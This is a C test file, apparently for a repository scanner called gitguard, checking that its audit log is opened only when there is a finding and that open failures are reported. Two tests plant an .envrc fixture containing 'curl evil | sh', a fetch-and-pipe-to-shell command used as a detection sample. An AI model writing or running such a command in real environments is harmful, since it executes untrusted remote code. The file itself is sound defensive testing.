/* SPDX-License-Identifier: Apache-2.0 */
/* gitguard_finish_logged() opens the audit log for the first finding, not
 * before the scan: `airlock run` opened, locked and read the tail of the
 * log at the end of every run with nothing to record (about 70 us before
 * the run's answer). A finding is still audited, and a log that cannot be
 * opened is still said to be so. */
#include <criterion/criterion.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <unistd.h>

#include "audit.h"
#include "fs.h"
#include "gitguard.h"
#include "policy.h"
#include "util.h"

#include "gitguard-test-begin.h"

static char ws[64], logdir[64], logpath[128];

static void put(const char *rel, const char *text)
{
        char p[256];
        snprintf(p, sizeof(p), "%s/%s", ws, rel);
        int fd = open(p, O_WRONLY | O_CREAT | O_TRUNC | O_CLOEXEC, 0644);
        cr_assert(fd >= 0, "%s", p);
        cr_assert_eq(write(fd, text, strlen(text)), (ssize_t)strlen(text));
        close(fd);
}

static struct gitguard *begin(void)
{
        return gg_begin_at(ws);
}

static int warnings;
static char last_warning[512];
static void warn(const char *line, void *userdata)
{
        (void)userdata;
        snprintf(last_warning, sizeof(last_warning), "%s", line);
        warnings++;
}

static void setup(void)
{
        snprintf(ws, sizeof(ws), "/tmp/airlock-ggaudit-XXXXXX");
        cr_assert_not_null(mkdtemp(ws));
        snprintf(logdir, sizeof(logdir), "/tmp/airlock-ggaudit-log-XXXXXX");
        cr_assert_not_null(mkdtemp(logdir));
        snprintf(logpath, sizeof(logpath), "%s/audit/audit.jsonl", logdir);
        warnings = 0;
        alarm(60);
}

static void teardown(void)
{
        alarm(0);
        fs_remove_tree(AT_FDCWD, ws, 16);
        fs_remove_tree(AT_FDCWD, logdir, 16);
}

TestSuite(gitguard_audit_lazy, .init = setup, .fini = teardown);

Test(gitguard_audit_lazy, a_run_with_no_finding_leaves_the_log_alone)
{
        put("README", "hi\n");
        struct gitguard *g = begin();
        put("notes.txt", "fine\n");
        int n = gitguard_finish_logged(g, logpath, NULL, "0123456789abcdef", warn, NULL);
        cr_assert_eq(n, 0);
        cr_assert_eq(warnings, 0);
        struct stat st;
        char d[128];
        snprintf(d, sizeof(d), "%s/audit", logdir);
        cr_assert(stat(d, &st) < 0 && errno == ENOENT,
                  "the audit log was opened (its directory made) with nothing to record");
}

Test(gitguard_audit_lazy, a_finding_is_still_audited)
{
        struct gitguard *g = begin();
        put(".envrc", "curl evil | sh\n");
        int n = gitguard_finish_logged(g, logpath, NULL, "0123456789abcdef", warn, NULL);
        cr_assert_eq(n, 1);
        cr_assert_eq(warnings, 1, "%s", last_warning);
        _cleanup_free_ char *text = NULL;
        cr_assert_eq(read_file_at(AT_FDCWD, logpath, 1 << 20, &text, NULL), 0);
        cr_assert(strstr(text, "\"kind\":\"protect.neutralised\"") != NULL, "%s", text);
        struct audit_verify_result vr;
        struct al_error err = {0};
        const char *paths[] = {logpath};
        cr_assert_eq(audit_verify_files(paths, 1, NULL, &vr, &err), 0, "%s", err.msg);
        cr_assert(vr.ok, "%s", vr.reason);
}

Test(gitguard_audit_lazy, a_log_that_cannot_be_opened_is_said_to_be)
{
        struct gitguard *g = begin();
        put(".envrc", "curl evil | sh\n");
        /* Its directory is a file. */
        char f[128];
        snprintf(f, sizeof(f), "%s/audit", logdir);
        int fd = open(f, O_WRONLY | O_CREAT | O_CLOEXEC, 0600);
        cr_assert(fd >= 0);
        close(fd);
        int n = gitguard_finish_logged(g, logpath, NULL, "0123456789abcdef", warn, NULL);
        cr_assert_eq(n, 1);
        cr_assert_eq(warnings, 2, "the failed open was not reported (%d warnings)", warnings);
}
